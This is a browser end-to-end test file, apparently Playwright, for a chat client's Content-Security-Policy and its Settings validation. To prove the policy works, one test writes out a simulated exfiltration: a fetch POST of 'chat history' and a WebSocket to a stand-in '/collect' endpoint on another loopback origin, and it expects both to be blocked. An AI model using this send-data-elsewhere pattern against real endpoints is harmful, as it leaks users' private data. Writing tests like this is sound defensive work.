/**
 * The browser client's Content-Security-Policy, as Chromium enforces it: the service that serves
 * the page lets it connect to that service only (signaling/src/web-client-csp.ts). A script in the
 * page that tries to send something elsewhere, by fetch or WebSocket, is stopped by the browser
 * (a `securitypolicyviolation` event on `connect-src`), while pairing and chat through the service
 * work as ever. index.html's own meta policy still allows `http: ws:`, so without the header the
 * requests below would go out.
 */
import {
  conversation,
  expect,
  expectConnected,
  openAdaAndBob,
  pair,
  sendChat,
  test,
} from './support/fixtures';

/** Another origin on loopback; the browser refuses before anything is sent. */
const ELSEWHERE_HTTP = 'http://127.0.0.2:47999/collect';
const ELSEWHERE_WS = 'ws://127.0.0.2:47999/collect';

test('the browser client may connect to its own service only; pairing and chat still work', async ({
  browser,
  signaling,
}) => {
  const { ada, bob } = await openAdaAndBob(browser, signaling.url);
  const policy = (await ada.page.request.get(signaling.url)).headers()['content-security-policy'] ?? '';
  expect(policy).toContain('connect-src');
  expect(policy).not.toMatch(/connect-src[^;]*\s(http|https|ws|wss):(\s|;|$)/);

  await pair(ada, bob);
  await expectConnected(ada, bob);
  await expectConnected(bob, ada);
  await sendChat(ada, bob, 'only through the service we came from');
  await expect(conversation(bob, ada)).toContainText('only through the service we came from');

  const outcome = await ada.page.evaluate(
    async ({ httpUrl, wsUrl }) => {
      const violations: { blockedURI: string; directive: string }[] = [];
      let bothSeen: () => void = () => undefined;
      const seen = new Promise<void>((resolve) => (bothSeen = resolve));
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push({ blockedURI: event.blockedURI, directive: event.effectiveDirective });
        if (violations.length >= 2) bothSeen();
      });
      let fetchRefused = false;
      try {
        await fetch(httpUrl, { method: 'POST', body: 'chat history' });
      } catch {
        fetchRefused = true;
      }
      let socketRefused = false;
      try {
        const socket = new WebSocket(wsUrl);
        await new Promise<void>((resolve) => {
          socket.onerror = () => {
            socketRefused = true;
            resolve();
          };
          socket.onopen = () => resolve();
        });
      } catch {
        socketRefused = true;
      }
      // Violation events are queued as tasks: wait for both (the test's timeout bounds this).
      await seen;
      return { violations, fetchRefused, socketRefused };
    },
    { httpUrl: ELSEWHERE_HTTP, wsUrl: ELSEWHERE_WS },
  );
  expect(outcome.fetchRefused).toBe(true);
  expect(outcome.socketRefused).toBe(true);
  expect(outcome.violations).toEqual(
    expect.arrayContaining([
      { blockedURI: ELSEWHERE_HTTP, directive: 'connect-src' },
      { blockedURI: expect.stringContaining('ws://127.0.0.2:47999'), directive: 'connect-src' },
    ]),
  );

  // The connection between the two is untouched.
  await sendChat(bob, ada, 'still here');
  await expect(conversation(ada, bob)).toContainText('still here');
});

test('Settings says so, in words and with a link, when a service typed there is one this page may not reach', async ({
  browser,
  signaling,
}) => {
  const { ada } = await openAdaAndBob(browser, signaling.url);
  await ada.page.getByRole('button', { name: 'Settings' }).click();
  const address = ada.page.getByRole('textbox', { name: 'Pairing service address' });
  await address.fill('http://127.0.0.2:47999/');
  await ada.page.getByRole('button', { name: 'Save' }).click();

  const alert = ada.page.getByRole('alert').filter({ hasText: 'http://127.0.0.2:47999' });
  await expect(alert).toContainText('can only reach the pairing service it was opened from');
  await expect(
    alert.getByRole('link', { name: 'Open Ferry from http://127.0.0.2:47999 instead' }),
  ).toHaveAttribute('href', 'http://127.0.0.2:47999');
  await expect(address).toHaveAttribute('aria-invalid', 'true');
  // Nothing was saved: Settings is still open.
  await expect(ada.page.getByRole('heading', { name: 'Settings', level: 1 })).toBeVisible();

  // The service this page came from is always allowed, and saves.
  await address.fill(signaling.url);
  await expect(alert).toHaveCount(0);
  await ada.page.getByRole('button', { name: 'Save' }).click();
  await expect(ada.page.getByRole('heading', { name: 'Settings', level: 1 })).toHaveCount(0);
  await ada.page.reload();
  await ada.page.getByRole('button', { name: 'Settings' }).click();
  await expect(ada.page.getByRole('textbox', { name: 'Pairing service address' })).toHaveValue(signaling.url);
});
